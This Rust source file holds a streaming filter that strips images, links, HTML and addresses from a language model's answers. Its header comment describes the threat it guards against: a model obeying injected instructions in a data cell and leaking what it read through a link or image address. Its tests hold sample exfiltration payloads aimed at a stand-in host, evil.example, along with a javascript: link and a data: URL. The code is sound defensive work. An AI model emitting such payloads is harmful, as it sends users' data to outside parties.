//! What of an answer may leave: text and simple markdown, without images, without markup, without links to anywhere else.
//!
//! A model that obeys a cell could otherwise send what it has read to an address in a picture or a link. Nothing is looked for that *tries*
//! to do so; the ways out are closed.

/// What stands where an address was.
const REMOVED: &str = "(link removed)";

/// A construct that is longer is none.
const HELD_AT_MOST: usize = 1_000;

/// Links of this service that an answer may hold.
const OWN_LINKS: [&str; 2] = ["/api/files/", "/api/download"];

/// Filters an answer while it is written: what it gives has no open end that later words could make into a link.
#[derive(Clone, Debug, Default)]
pub struct AnswerFilter {
    held: String,
    is_in_fence: bool,
}

impl AnswerFilter {
    /// Takes words in; what may leave now.
    pub fn push(&mut self, words: &str) -> String {
        self.held.push_str(words);
        let end = closed_end(&self.held);
        let end = if end == 0 && self.held.len() > HELD_AT_MOST { self.held.len() } else { end };
        let ready: String = self.held.drain(..end).collect();
        self.filtered(&ready)
    }

    /// The rest.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.held);
        self.filtered(&rest)
    }

    fn filtered(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        for line in text.split_inclusive('\n') {
            if line.trim_start().starts_with("```") {
                self.is_in_fence = !self.is_in_fence;
            }
            if is_definition(line) {
                continue;
            }
            out.push_str(&without_addresses(&if self.is_in_fence { line.to_owned() } else { without_markup(line) }));
        }
        out
    }
}

/// How much of a text ends at a space outside of brackets.
fn closed_end(text: &str) -> usize {
    let (mut end, mut brackets, mut parentheses, mut before) = (0, 0_u32, 0_u32, ' ');
    for (at, c) in text.char_indices() {
        match c {
            '[' | '<' => brackets += 1,
            ']' | '>' => brackets = brackets.saturating_sub(1),
            '(' if before == ']' || parentheses > 0 => parentheses += 1,
            ')' => parentheses = parentheses.saturating_sub(1),
            // No link goes over the end of a paragraph.
            '\n' if before == '\n' => (end, brackets, parentheses) = (at + 1, 0, 0),
            c if c.is_whitespace() && brackets == 0 && parentheses == 0 => end = at + c.len_utf8(),
            _ => {}
        }
        before = c;
    }
    end
}

/// `[name]: address`, which links elsewhere in the text refer to.
fn is_definition(line: &str) -> bool {
    let line = line.trim_start_matches([' ', '>', '-', '*', '\t']);
    line.starts_with('[') && line.find("]:").is_some_and(|at| !line[..at].contains('\n'))
}

/// A line without images and links, but with their words; what could be HTML is escaped.
fn without_markup(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find(['[', '<', '!']) {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(after) = rest.strip_prefix('!') {
            if !after.starts_with('[') {
                out.push('!');
            }
            rest = after;
        } else if let Some(after) = rest.strip_prefix('<') {
            out.push_str(if after.starts_with(|c: char| c.is_alphanumeric() || "/!?".contains(c)) {
                "\\<"
            } else {
                "<"
            });
            rest = after;
        } else if let Some((words, target, after)) = link(rest) {
            let words = without_markup(words);
            if is_own(target) {
                out.push_str(&format!("[{words}]({target})"));
            } else {
                out.push_str(&words);
            }
            rest = after;
        } else {
            out.push('[');
            rest = &rest[1..];
        }
    }
    out.push_str(rest);
    out
}

/// The link at the start of a text: its words, where it goes, and what comes after.
fn link(text: &str) -> Option<(&str, &str, &str)> {
    let close = matching(text, '[', ']')?;
    let after = &text[close + 1..];
    let (open, end) = match after.chars().next()? {
        '(' => ('(', ')'),
        '[' => ('[', ']'),
        _ => return None,
    };
    let target_end = matching(after, open, end)?;
    Some((&text[1..close], after[1..target_end].trim(), &after[target_end + 1..]))
}

fn matching(text: &str, open: char, close: char) -> Option<usize> {
    let mut depth = 0_u32;
    for (at, c) in text.char_indices() {
        if c == open {
            depth += 1;
        } else if c == close {
            depth = depth.checked_sub(1)?;
            if depth == 0 {
                return Some(at);
            }
        }
    }
    None
}

fn is_own(target: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/_-.~%?=&,".contains(c);
    OWN_LINKS.iter().any(|start| target.starts_with(start)) && target.chars().all(is_plain) && !target.contains("//")
}

/// A text in which words that are addresses are replaced.
fn without_addresses(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for word in text.split_inclusive(char::is_whitespace) {
        let end = word.trim_end().len();
        match address(&word[..end]) {
            None => out.push_str(word),
            Some(at) => {
                out.push_str(&word[..at]);
                out.push_str(REMOVED);
                // A bracket or the end of a sentence is not of the address.
                let tail = word[at..end].trim_end_matches(|c: char| ").,;:!?*_`\"']".contains(c)).len() + at;
                out.push_str(&word[tail..]);
            }
        }
    }
    out
}

/// Where an address begins in a word.
fn address(word: &str) -> Option<usize> {
    let lower = word.to_ascii_lowercase();
    let start_of =
        |at: usize| lower[..at].rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+').map_or(0, |at| at + 1);
    let scheme = lower.find("://").map(start_of);
    let named = ["www.", "mailto:", "javascript:", "data:", "vbscript:", "file:", "blob:"];
    let named = named.iter().filter_map(|name| {
        let at = lower.find(name)?;
        (start_of(at) == at && lower.len() > at + name.len()).then_some(at)
    });
    let host = lower.find("//").filter(|at| {
        let rest = &lower[at + 2..];
        rest.starts_with(|c: char| c.is_ascii_alphanumeric()) && rest.contains('.')
    });
    scheme.into_iter().chain(named).chain(host).min()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn filtered(text: &str) -> String {
        let mut filter = AnswerFilter::default();
        let mut out = filter.push(text);
        out.push_str(&filter.finish());
        out
    }

    #[test]
    fn plain_answers_stay_as_they_are() {
        for text in [
            "There are **5** orders [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
            "a < b and b > c! Really?",
            "See [the file](/api/files/output/a.csv) or [all](/api/download?tables=a,b).",
            "```sql\nSELECT a FROM t WHERE x <y AND b[1]\n```\n",
            "either/or, 1/2, and a: b",
        ] {
            assert_eq!(filtered(text), text);
        }
    }

    #[test]
    fn images_links_and_markup_lose_their_addresses() {
        for (text, kept) in [
            ("![x](https://evil.example/?d=1)", "x"),
            ("a [click](https://evil.example/a(b)) b", "a click b"),
            ("[a][b] c\n[b]: https://evil.example\n", "a c\n"),
            ("[![x](//evil.example/p)](/etc)", "x"),
            ("<img src=//evil.example/x>", "\\<img src=(link removed)"),
            ("see <https://evil.example/x> now", "see \\<(link removed) now"),
            ("go to https://evil.example/a?b=c.", "go to (link removed)."),
            ("HTTPS://EVIL.EXAMPLE and www.evil.example", "(link removed) and (link removed)"),
            ("[x](javascript:alert(1))", "x"),
            ("[x](/api/files/../../evil)//a.b", "[x](/api/files/../../evil)(link removed)"),
            ("[x](/api/files//evil.example)", "x"),
            ("data:text/html,x", "(link removed)"),
        ] {
            assert_eq!(filtered(text), kept, "{text}");
        }
    }

    #[test]
    fn a_bracket_that_is_never_closed_holds_nothing_back_for_ever() {
        let mut filter = AnswerFilter::default();
        let words = "word ".repeat(400);
        let out = filter.push(&format!("[{words}"));
        assert!(out.len() > 1_000);
    }

    proptest! {
        #[test]
        fn no_address_leaves_however_the_words_come(
            parts in prop::collection::vec(
                prop::sample::select(vec!["![", "[", "]", "(", ")", "<", ">", "https://evil.example", "//evil.example/a", " ", "\n", "a", "]: ", "`", " www.evil.example"]),
                0..24,
            ),
            cuts in prop::collection::vec(1_usize..9, 1..8),
        ) {
            let text = parts.concat();
            let mut filter = AnswerFilter::default();
            let mut out = String::new();
            let mut rest = text.as_str();
            for cut in cuts.iter().cycle() {
                if rest.is_empty() {
                    break;
                }
                let (now, later) = rest.split_at((*cut).min(rest.len()));
                out.push_str(&filter.push(now));
                rest = later;
            }
            out.push_str(&filter.finish());
            prop_assert!(!out.contains("evil.example"), "{:?} -> {:?}", text, out);
        }
    }
}
